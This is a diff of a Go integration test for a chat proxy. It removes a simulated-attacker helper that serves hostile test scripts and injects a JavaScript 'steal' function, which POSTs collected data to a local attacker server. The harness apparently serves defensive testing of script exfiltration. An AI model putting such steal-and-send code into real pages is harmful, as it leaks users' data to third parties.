@@ -3,111 +3,13 @@ package integration
 import (
 	"context"
 	"fmt"
-	"net/http"
 	"net/http/httptest"
-	"os"
-	"path"
-	"path/filepath"
 	"strings"
-	"sync"
 	"testing"
 
 	"chatproxy/demo/site"
 	"chatproxy/integration/browsers"
 )
-
-// An attacker serves hostile scripts and keeps what they send. The CDN that one
-// of them loads from is another origin of the same attacker.
-type attacker struct {
-	script, cdn string // base URLs
-	mu          sync.Mutex
-	changed     *sync.Cond
-	loot        map[string][]string // by attack
-}
-
-func newAttacker(t *testing.T) *attacker {
-	t.Helper()
-	a := &attacker{loot: map[string][]string{}}
-	a.changed = sync.NewCond(&a.mu)
-	mux := http.NewServeMux()
-	mux.HandleFunc("GET /attacks/{name}", a.serve)
-	mux.HandleFunc("POST /loot/{attack}", a.keep)
-	mux.HandleFunc("GET /loot/{attack}", a.keep) // what a style sheet can send
-	script, cdn := httptest.NewServer(mux), httptest.NewServer(mux)
-	t.Cleanup(script.Close)
-	t.Cleanup(cdn.Close)
-	a.script, a.cdn = script.URL, cdn.URL
-	return a
-}
-
-// serve sends a script of testdata/attacks with the means to send off its loot.
-func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
-	body, err := os.ReadFile(filepath.Join("..", "testdata", "attacks", filepath.Base(r.PathValue("name"))))
-	if err != nil {
-		http.Error(w, err.Error(), http.StatusNotFound)
-		return
-	}
-	// The built-in fetch is kept, so that an attack which wraps it does not
-	// report its own reports.
-	means := fmt.Sprintf(`var CDN = %q, steal = globalThis.steal || ((send) => (attack, loot) =>
-  send(%q + attack, { method: "POST", mode: "no-cors", body: String(loot) }).catch(() => {}))(fetch.bind(globalThis));
-`, a.cdn, a.script+"/loot/")
-	if path.Ext(r.URL.Path) == ".html" {
-		w.Header().Set("Content-Type", "text/html")
-		means = "<script>" + means + "</script>"
-	} else {
-		w.Header().Set("Content-Type", "text/javascript")
-	}
-	fmt.Fprint(w, means, string(body))
-}
-
-func (a *attacker) keep(_ http.ResponseWriter, r *http.Request) {
-	body := make([]byte, 0, 4<<10)
-	buf := make([]byte, 32<<10)
-	for len(body) < 4<<20 {
-		n, err := r.Body.Read(buf)
-		body = append(body, buf[:n]...)
-		if err != nil {
-			break
-		}
-	}
-	a.mu.Lock()
-	defer a.mu.Unlock()
-	attack := r.PathValue("attack")
-	a.loot[attack] = append(a.loot[attack], r.URL.RawQuery+string(body))
-	a.changed.Broadcast()
-}
-
-// wait waits until the condition holds on what the attack has sent.
-func (a *attacker) wait(ctx context.Context, attack string, holds func(loot []string) bool) bool {
-	stop := context.AfterFunc(ctx, func() {
-		a.mu.Lock()
-		defer a.mu.Unlock()
-		a.changed.Broadcast()
-	})
-	defer stop()
-	a.mu.Lock()
-	defer a.mu.Unlock()
-	for !holds(a.loot[attack]) {
-		if ctx.Err() != nil {
-			return false
-		}
-		a.changed.Wait()
-	}
-	return true
-}
-
-func (a *attacker) count(attack string) int {
-	a.mu.Lock()
-	defer a.mu.Unlock()
-	return len(a.loot[attack])
-}
-
-func (a *attacker) all(attack string) string {
-	a.mu.Lock()
-	defer a.mu.Unlock()
-	return strings.Join(a.loot[attack], "\n")
-}
 
 // The scripts that stand in the page, in the order of the issue; rrweb, the sixth,
 // is the vendor's own replay script.
